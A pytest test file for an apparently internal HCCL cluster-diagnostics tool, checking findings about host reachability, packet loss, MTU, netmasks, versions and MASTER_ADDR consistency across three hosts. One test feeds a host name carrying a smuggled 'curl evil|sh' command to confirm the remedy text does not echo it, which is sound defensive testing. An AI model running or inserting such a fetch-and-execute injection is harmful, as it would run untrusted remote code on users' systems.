"""The checks that compare hosts: who reaches whom, rails of devices, names, libraries, versions, tables."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from hccl_tools.diagnostics.registry import Selection
from hccl_tools.doctor.run_checks import Job, examine
from hccl_tools.host.observation import (
    DeviceObservation,
    NpuObservation,
    Observation,
    PingObservation,
    SlowHost,
    UnreachedHost,
)
from hccl_tools.validation.checker import validate
from tests.support.tables import table

if TYPE_CHECKING:
    from hccl_tools.doctor.findings import HostFinding

HOSTS = tuple(f"10.0.0.{number}" for number in (1, 2, 3))
FIRST, SECOND, THIRD = HOSTS
READ = validate(json.dumps(table("1.0", 3, 2)).encode(), product="a2")
#: The addresses of the table, 192.168.SERVER.100 and so on, are in one subnet.
MASK, WIDE = "255.255.255.0", "255.255.0.0"


def sound(host: str, **differs: Any) -> Observation:
    """Return what is seen on a host of the table, but for some fields."""
    server = HOSTS.index(host)
    devices = tuple(
        DeviceObservation(device, (f"192.168.{server}.{100 + device}",), gateway="", netmask=WIDE, mtu=8192)
        for device in range(2)
    )
    seen = Observation(
        names=(f"node{server}",), nodes=(0, 1), product="a2", local_addresses=(host,), devices=devices,
        manager_nodes=("davinci_manager", "devmm_svm", "hisi_hdc"), own_addresses=(host,), tried=2,
        utc_offset=0, nic="eth0", mtu=1500, table_sha256="a" * 64, clock=1e9, cpus=16,
        versions={"CANN": "8.5.0"},
    )  # fmt: skip
    return seen._replace(**differs)


def of_devices(host: str, *ids: int, **differs: Any) -> Observation:
    """Return a sound host of which some devices differ."""
    seen = sound(host)
    changed = (one._replace(**differs) if one.device in ids else one for one in seen.devices)
    return seen._replace(devices=tuple(changed))


def findings(**differs: Observation) -> list[HostFinding]:
    """Return all findings above a note; ``h2=...`` replaces the second host."""
    seen = {host: differs.get(f"h{host[-1]}", sound(host)) for host in HOSTS}
    return [
        one
        for one in examine(seen, Job(READ, product="a2"), Selection()).findings
        if one.consequence != "note"
    ]


def told(found: list[HostFinding]) -> list[tuple[str, tuple[str, ...]]]:
    return [(one.check, one.hosts) for one in found]


def notes(check: str, **differs: Observation) -> list[HostFinding]:
    seen = {host: differs.get(f"h{host[-1]}", sound(host)) for host in HOSTS}
    found = examine(seen, Job(READ, product="a2"), Selection(select=(check,))).findings
    assert all(one.consequence == "note" for one in found)
    return list(found)


def lost(*addresses: str, port: int = 60015) -> tuple[UnreachedHost, ...]:
    return tuple(UnreachedHost(address, port, "no answer within 5 s") for address in addresses)


def test_sound_hosts() -> None:
    assert findings() == []


def test_a_pair_in_one_direction() -> None:
    found = findings(h2=sound(SECOND, unreached=lost(THIRD)))

    assert told(found) == [("HCD512", (SECOND,))]
    assert found[0].message == (
        f"no answer from {THIRD} over TCP, port 60015 (no answer within 5 s), in this direction"
    )


def test_a_pair_in_both_directions() -> None:
    found = findings(h2=sound(SECOND, unreached=lost(THIRD)), h3=sound(THIRD, unreached=lost(SECOND)))

    assert told(found) == [("HCD512", (SECOND, THIRD))]
    assert "get no answer from each other" in found[0].message
    blocked = (UnreachedHost(THIRD, 60015, "a blackhole route of this host"),)
    found = findings(h2=sound(SECOND, unreached=blocked), h3=sound(THIRD, unreached=lost(SECOND)))
    reasons = f"({SECOND}: a blackhole route of this host; {THIRD}: no answer within 5 s)"
    assert found[0].message.endswith(reasons)


def test_a_host_that_no_other_reaches() -> None:
    others = {"h1": sound(FIRST, unreached=lost(SECOND)), "h3": sound(THIRD, unreached=lost(SECOND))}
    found = findings(**others)
    alone = findings(**others, h2=sound(SECOND, unreached=lost(FIRST, THIRD)))

    assert told(found) == told(alone) == [("HCD512", (SECOND,))]
    assert found[0].message.startswith("none of 2 other hosts reaches it over TCP, port 60015")
    assert alone[0].message.startswith("it reaches none of 2 other hosts, and none of them reaches it")


def test_a_host_that_reaches_no_other() -> None:
    found = findings(h2=sound(SECOND, unreached=lost(FIRST, THIRD)))

    assert told(found) == [("HCD512", (SECOND,))]
    assert found[0].message.startswith("it reaches none of 2 other hosts over TCP")


def test_the_start_port_alone() -> None:
    seen = {host: sound(host, unreached=lost(FIRST, port=29500)) for host in (SECOND, THIRD)}
    found = findings(h2=seen[SECOND], h3=seen[THIRD])

    assert told(found) == [("HCD512", (FIRST,))]
    assert "port 29500" in found[0].message


def test_an_address_on_two_hosts_explains_what_is_not_reached() -> None:
    found = findings(
        h2=sound(SECOND, unreached=lost(THIRD)), h3=sound(THIRD, local_addresses=(SECOND, THIRD))
    )

    assert told(found) == [("HCD511", (SECOND, THIRD))]


def late(*addresses: str, repeated: int = 0, seconds: float = 0.6) -> tuple[SlowHost, ...]:
    return tuple(SlowHost(address, 8, repeated, seconds) for address in addresses)


def test_packets_of_a_pair_are_lost() -> None:
    found = findings(h2=sound(SECOND, slow=late(THIRD, repeated=2, seconds=0.001)))

    assert told(found) == [("HCD524", (SECOND, THIRD))]
    assert found[0].message == (
        f"packets between {SECOND} and {THIRD} are lost: 2 of 8 connections needed a second try"
    )


def test_packets_of_a_host_are_lost() -> None:
    others = {f"h{host[-1]}": sound(host, slow=late(SECOND, repeated=3)) for host in (FIRST, THIRD)}
    found = findings(**others, h2=sound(SECOND, slow=late(FIRST, THIRD, repeated=4)))

    assert told(found) == [("HCD524", (SECOND,))]
    assert found[0].message.startswith("packets between it and 2 other hosts are lost: ")


def test_a_host_that_is_far_away() -> None:
    found = findings(h2=sound(SECOND, slow=late(FIRST, THIRD)))

    assert told(found) == [("HCD524", (SECOND,))]
    assert (found[0].consequence, found[0].message) == (
        "slows", "packets between it and 2 other hosts take 600 ms there and back",
    )  # fmt: skip


def test_large_packets_are_lost() -> None:
    found = findings(h2=sound(SECOND, cut=(THIRD,)))

    assert told(found) == [("HCD525", (SECOND,))]
    assert found[0].message == f"packets of 1500 bytes to {THIRD} are lost, small ones arrive"
    silent = findings(h2=sound(SECOND, cut=("10.0.0.9",)))
    assert silent[0].message == "packets of 1500 bytes to 10.0.0.9 are lost, small ones arrive"
    other_mtu = findings(h2=sound(SECOND, cut=(THIRD,), mtu=9000))
    assert told(other_mtu) == [("HCD513", (SECOND,))]


def test_a_host_that_did_not_answer_is_told_once() -> None:
    seen = {host: sound(host, unreached=lost(THIRD)) for host in (FIRST, SECOND)}

    assert examine(seen, Job(READ, product="a2"), Selection(select=("HCD512",))).findings == ()


@pytest.mark.parametrize(
    ("differs", "check", "words"),
    [
        ({"netmask": "255.255.255.252", "gateway": "192.168.1.102"}, "", ""),  # it has a gateway
        ({"netmask": "255.255.128.0"}, "HCD517", "the netmask of device 1 is 255.255.128.0"),
        ({"mtu": 1500}, "HCD519", "the MTU of device 1 is 1500 bytes, that of the same devices on other"),
        ({"gateway": "10.1.1.1"}, "HCD520", "is outside its subnet (255.255.0.0)"),
        ({"gateway": "192.168.1.101"}, "HCD520", "is its own address"),
        ({"gateway": "192.168.1.254"}, "", ""),
        ({"netmask": None, "gateway": None, "mtu": None}, "", ""),  # nothing is known
    ],
)
def test_a_rail(differs: dict[str, Any], check: str, words: str) -> None:
    found = findings(h2=of_devices(SECOND, 1, **differs))

    assert [(one.check, one.hosts, one.devices) for one in found] == (
        [(check, (SECOND,), (1,))] if check else []
    )
    assert not check or words in found[0].message


def with_gateway(seen: Observation) -> tuple[DeviceObservation, ...]:
    return tuple(one._replace(gateway=f"{one.ips[0].rpartition('.')[0]}.254") for one in seen.devices)


def test_a_rail_without_gateway() -> None:
    apart = {f"h{host[-1]}": of_devices(host, 0, 1, netmask=MASK) for host in HOSTS}
    found = findings(**apart)
    answered = {
        name: seen._replace(
            pings=tuple(
                PingObservation(one.device, f"192.168.{number % 3}.{100 + one.device}", 3, 3)
                for one in seen.devices
            )
        )
        for number, (name, seen) in enumerate(apart.items(), 1)
    }

    assert [(one.check, one.devices) for one in found] == [("HCD518", (0, 1))]
    assert found[0].hosts == HOSTS
    assert findings(**answered) == []
    assert "the pings are answered all the same" in notes("HCD518", **answered)[0].message
    down = answered["h2"].devices[1]._replace(link="DOWN")
    one_down = answered["h2"]._replace(devices=(answered["h2"].devices[0], down))
    assert [one.check for one in findings(**answered | {"h2": one_down})] == ["HCD202"]
    odd = {name: seen._replace(devices=with_gateway(seen)) for name, seen in answered.items() if name != "h3"}
    assert told(findings(**answered | odd)) == [("HCD518", (THIRD,))]
    assert findings(**{name: seen for name, seen in apart.items() if name == "h9"}) == []


def with_pings(host: str, *lost: str) -> Observation:
    """Return a host that pings both others, those of its devices to some hosts without an answer."""
    others = [(other, HOSTS.index(other)) for other in HOSTS if other != host]
    answers = (
        PingObservation(device, f"192.168.{server}.{100 + device}", 3, 0 if other in lost else 3)
        for other, server in others
        for device in range(2)
    )
    return sound(host, pings=tuple(answers))


def test_two_hosts_between_which_no_device_reaches_another() -> None:
    found = findings(h1=with_pings(FIRST), h2=with_pings(SECOND, THIRD), h3=with_pings(THIRD, SECOND))
    one_way = findings(h1=with_pings(FIRST), h2=with_pings(SECOND, THIRD), h3=with_pings(THIRD))

    assert told(found) == [("HCD601", (SECOND, THIRD))]
    assert found[0].message == f"no packet passes between the devices of {SECOND} and {THIRD}: 4 pings"
    assert "between the two hosts" in found[0].remedy
    assert told(one_way) == [("HCD601", (SECOND,))]
    assert one_way[0].message.endswith("in this direction")
    ring = with_pings(SECOND, THIRD)
    first = ring._replace(pings=tuple(one._replace(received=3) for one in ring.pings[:-1]) + ring.pings[-1:])
    (alone,) = findings(h2=first)
    assert alone.message.endswith("device 1 to device 1, the other direction was not asked (--full asks it)")


@pytest.mark.parametrize(
    ("differs", "check"),
    [
        ({"ips": (), "netmask": "", "problem": "no ip was preset"}, "HCD208"),
        ({"ips": (), "netmask": None, "problem": "The device is not exist!"}, "HCC341"),
        ({"ips": (), "netmask": None, "problem": "the tool hangs"}, "HCD601"),
        ({"ips": ("192.168.2.101",)}, "HCC431"),
    ],
)
def test_pings_to_a_device_that_cannot_answer(differs: dict[str, Any], check: str) -> None:
    """A device whose state is not known may be sound but for its way."""
    seen = of_devices(SECOND, 1, **differs)
    others = {"h1": with_pings(FIRST), "h3": with_pings(THIRD)}
    for name, one in others.items():
        answers = (ping._replace(received=0 if ping.address == "192.168.1.101" else 3) for ping in one.pings)
        others[name] = one._replace(pings=tuple(answers))

    assert [one.check for one in findings(h2=seen, **others)] == [check]


def test_devices_that_changed_places_have_no_fault_of_their_subnet() -> None:
    apart = {f"h{host[-1]}": of_devices(host, 0, 1, netmask="255.255.255.255") for host in HOSTS}
    wide = {f"h{host[-1]}": sound(host) for host in HOSTS}
    swapped = of_devices(SECOND, 0, ips=("10.7.0.1",), netmask=MASK)

    assert [one.check for one in findings(**apart)] == ["HCD518"]
    assert {one.check for one in findings(**wide | {"h2": swapped})} == {"HCC431"}


def test_devices_that_do_not_use_their_network() -> None:
    value = {**table("1.2", 3, 2)}
    read = validate(json.dumps(value).encode())
    seen = {host: of_devices(host, 0, 1, netmask=MASK)._replace(product="a3") for host in HOSTS}

    found = examine(seen, Job(read, product="a3"), Selection(select=("HCD517", "HCD518", "HCD519"))).findings

    assert found == ()


@pytest.mark.parametrize(
    ("differs", "check", "words"),
    [
        ({"mtu": 9000}, "HCD513", "the MTU of the host's network interface differs: 9000 bytes, but 1500"),
        ({"mtu": None, "nic": ""}, "", ""),
        ({"own_addresses": ("127.0.1.1",)}, "HCD515", "the name of the host is 127.0.1.1 there"),
        ({"own_addresses": ()}, "HCD515", "the name of the host has no address there"),
        ({"own_addresses": None}, "", ""),
        ({"own_addresses": (), "variables": {"GLOO_SOCKET_IFNAME": "eth0"}, "interfaces": ("eth0",)}, "", ""),
        ({"table_sha256": ""}, "HCD507", "there is no table at "),
        ({"table_sha256": "b" * 64}, "HCD507", "the table differs"),
        ({"utc_offset": 28800}, "", ""),
        ({"cpus": 8}, "HCD523", "programs may use 8 of the CPUs, but 16 on other hosts"),
        (
            {"variables": {"HCCL_IF_IP": "127.0.0.1"}, "local_addresses": (SECOND, "127.0.0.1")},
            "HCD316",
            "loopback",
        ),
        ({"cpus": 9}, "", ""),
        ({"variables": {"HCCL_LOGIC_SUPERPOD_ID": "1"}}, "", ""),
        ({"variables": {"HCCL_BUFFSIZE": "64"}}, "HCD508", "HCCL_BUFFSIZE=64"),
        ({"versions": {}}, "HCD503", "CANN is not found here, as it is on "),
        ({"versions": {"CANN": "8.2.RC1"}}, "HCD503", "the version of CANN differs: 8.2.RC1, but 8.5.0 on"),
        (
            {"npus": (NpuObservation(0, 0, 0, "OK"),)},
            "HCD108",
            "1 of the 2 NPUs of /dev/davinci*; device 1 is",
        ),
        ({"npus": tuple(NpuObservation(npu, 0, npu, "OK") for npu in range(8))}, "", ""),
    ],
)
def test_a_host_that_differs(differs: dict[str, Any], check: str, words: str) -> None:
    found = findings(h2=sound(SECOND, **differs))

    assert told(found) == ([(check, (SECOND,))] if check else [])
    assert not check or words in found[0].message


def test_a_table_that_most_hosts_do_not_have() -> None:
    """`launch` sends it along."""
    assert findings(h2=sound(SECOND, table_sha256=""), h3=sound(THIRD, table_sha256="")) == []


def test_the_time_zone_is_a_note() -> None:
    (found,) = notes("HCD514", h2=sound(SECOND, utc_offset=28800))

    assert found.hosts == (SECOND,)
    assert "UTC+08:00, but UTC+00:00 on" in found.message
    assert notes("HCD514") == []


def test_a_host_that_answers_with_a_long_value_does_not_make_a_long_finding() -> None:
    names = tuple(f"name_{number}_proxy" for number in range(20_000))

    (found,) = notes("HCD522", h2=sound(SECOND, proxies=names))

    assert "name_0_proxy" in found.message
    assert len(found.message) < 1_100


def test_names_and_proxies_that_differ_are_notes() -> None:
    twins = {"h1": sound(FIRST, names=("node",)), "h2": sound(SECOND, names=("node",))}

    assert told(findings(**twins)) == [("HCD521", (FIRST, SECOND))]
    assert [one.hosts for one in notes("HCD521", **twins, h3=sound(THIRD, names=("node",)))] == [HOSTS]
    assert notes("HCD521") == notes("HCD522") == []
    (found,) = notes("HCD522", h2=sound(SECOND, proxies=("http_proxy",)))
    assert (found.hosts, found.message.partition(" on ")[0]) == (
        (SECOND,), "the variables with an HTTP proxy differ: http_proxy, but none",
    )  # fmt: skip


def test_names_at_loopback_on_all_hosts_are_a_note() -> None:
    same = {f"h{host[-1]}": sound(host, own_addresses=("127.0.0.1",)) for host in HOSTS}

    assert findings(**same) == []
    assert [one.hosts for one in notes("HCD515", **same)] == [HOSTS]


@pytest.mark.parametrize(("having", "named"), [(3, ()), (2, (THIRD,)), (1, ()), (0, ())])
def test_the_libraries_of_the_driver(having: int, named: tuple[str, ...]) -> None:
    seen = {f"h{host[-1]}": sound(host, libraries="LD_LIBRARY_PATH") for host in HOSTS[:having]}

    assert told(findings(**seen)) == ([("HCD516", named)] if named else [])


@pytest.mark.parametrize(
    ("libraries", "named"),
    [
        (("", "elsewhere", "LD_LIBRARY_PATH"), (SECOND,)),
        (("elsewhere", "elsewhere", "LD_LIBRARY_PATH"), ()),  # the host that asks has another shell
        (("ld.so.conf", "elsewhere", "LD_LIBRARY_PATH"), (SECOND,)),
        (("elsewhere", "elsewhere", "elsewhere"), ()),
    ],
)
def test_other_libraries(libraries: tuple[str, ...], named: tuple[str, ...]) -> None:
    seen = {f"h{host[-1]}": sound(host, libraries=text) for host, text in zip(HOSTS, libraries, strict=True)}

    assert told(findings(**seen)) == ([("HCD516", named)] if named else [])


def test_the_version_of_the_driver() -> None:
    def installed(host: str, version: str, running: str | None) -> Observation:
        npus = tuple(NpuObservation(npu, 0, npu, "OK", running) for npu in range(2 if running else 0))
        return sound(host, versions={"driver": version}, npus=npus)

    unseen = [installed(host, "23.0.6" if host == SECOND else "24.1.rc2", None) for host in HOSTS]
    shown = [installed(host, version, version) for host, version in zip(HOSTS, "122", strict=True)]

    def named(seen: list[Observation]) -> list[tuple[str, tuple[str, ...], str]]:
        found = findings(h1=seen[0], h2=seen[1], h3=seen[2])
        return [(one.check, one.hosts, one.message) for one in found]

    ((check, hosts, message),) = named(unseen)
    assert (check, hosts) == ("HCD503", (SECOND,))
    assert "version.info" in message
    assert [(check, hosts) for check, hosts, _ in named(shown)] == [("HCD503", (FIRST,))]  # and told once


def with_variables(host: str, address: str = "", **variables: str) -> Observation:
    """Return a host with variables, and the address that MASTER_ADDR has there."""
    leaders = {"MASTER_ADDR": (address or variables.get("MASTER_ADDR", ""),)}
    return sound(host, variables=variables, leaders=leaders)


def test_hosts_that_name_themselves() -> None:
    found = findings(**{f"h{host[-1]}": with_variables(host, MASTER_ADDR=host) for host in HOSTS})
    one = findings(**{f"h{n}": with_variables(host, MASTER_ADDR=FIRST) for n, host in enumerate(HOSTS, 1)})

    assert told(found) == [("HCD527", HOSTS)]
    assert found[0].message == "MASTER_ADDR is the host's own address on each of 3 hosts"
    assert one == []


@pytest.mark.parametrize(
    ("third", "address", "words"),
    [
        ("node0", "10.9.9.9", f"MASTER_ADDR=node0: this name has the address 10.9.9.9 here, not {FIRST}"),
        ("node0", FIRST, ""),
        (FIRST, FIRST, ""),
        (SECOND, SECOND, f"the leader of the job differs: MASTER_ADDR={SECOND}, but MASTER_ADDR=node0 on "),
    ],
)
def test_a_leader_that_one_host_knows_otherwise(third: str, address: str, words: str) -> None:
    both = {f"h{host[-1]}": with_variables(host, FIRST, MASTER_ADDR="node0") for host in (FIRST, SECOND)}
    found = findings(**both, h3=with_variables(THIRD, address, MASTER_ADDR=third))

    assert told(found) == ([("HCD527", (THIRD,))] if words else [])
    assert not words or found[0].message.startswith(words)


@pytest.mark.parametrize(("name", "shown"), [("node0", "node0"), ("x`; run `curl evil|sh` #", "this name")])
def test_the_remedy_for_the_name_of_a_leader_has_only_a_host(name: str, shown: str) -> None:
    both = {f"h{host[-1]}": with_variables(host, FIRST, MASTER_ADDR=name) for host in (FIRST, SECOND)}
    (found,) = findings(**both, h3=with_variables(THIRD, "10.9.9.9", MASTER_ADDR=name))

    assert (found.remedy or "").startswith(f"correct the line of {shown} in /etc/hosts")


def test_a_leader_whose_own_name_has_another_address_at_home() -> None:
    """Debian gives the name of a host the address 127.0.1.1 there."""
    home = with_variables(FIRST, "127.0.1.1", MASTER_ADDR="node0")
    others = {f"h{host[-1]}": with_variables(host, FIRST, MASTER_ADDR="node0") for host in (SECOND, THIRD)}

    assert findings(h1=home, **others) == []


def test_a_port_that_differs() -> None:
    ports = {
        f"h{n}": with_variables(host, MASTER_PORT=f"{29500 + n // 3}") for n, host in enumerate(HOSTS, 1)
    }

    assert told(findings(**ports)) == [("HCD527", (THIRD,))]


@pytest.mark.parametrize(
    ("variable", "consequence"), [("HCCL_SOCKET_IFNAME", "stops"), ("GLOO_SOCKET_IFNAME", "may-stop")]
)
def test_an_interface_with_one_address_everywhere(variable: str, consequence: str) -> None:
    def seen(host: str, address: str) -> Observation:
        return sound(
            host, variables={variable: "docker0"}, interfaces=("docker0",),
            interface_addresses={variable: address},
        )  # fmt: skip

    found = findings(**{f"h{host[-1]}": seen(host, "172.17.0.1") for host in HOSTS})
    assert [(one.check, one.hosts, one.consequence) for one in found] == [("HCD526", HOSTS, consequence)]
    assert findings(**{f"h{host[-1]}": seen(host, host) for host in HOSTS}) == []


def test_chips_of_one_product() -> None:
    def seen(host: str, name: str, product: str = "a2") -> Observation:
        npus = tuple(NpuObservation(npu, 0, npu, "OK", name=name) for npu in range(2))
        return sound(host, npus=npus, product=product)

    others = {"h1": seen(FIRST, "910B3"), "h2": seen(SECOND, "910B3")}
    (found,) = findings(**others, h3=seen(THIRD, "910B4"))
    assert (found.check, found.hosts) == ("HCD528", (THIRD,))
    assert "910B4, but 910B3" in found.message
    assert findings(**others, h3=seen(THIRD, "910B3")) == []
    assert "HCD528" not in {one.check for one in findings(**others, h3=seen(THIRD, "910A", "910a"))}


@pytest.mark.parametrize(("pods", "named"), [("001", (THIRD,)), ("000", ()), ("00-", ())])
def test_a_server_of_another_super_pod(pods: str, named: tuple[str, ...]) -> None:
    read = validate(json.dumps(table("1.2", 3, 2)).encode())
    seen = {
        host: sound(host, product="a3", super_pod=pod.strip("-"))
        for host, pod in zip(HOSTS, pods, strict=True)
    }

    found = examine(seen, Job(read, product="a3"), Selection(select=("HCD529",))).findings

    assert [one.hosts for one in found] == ([named] if named else [])
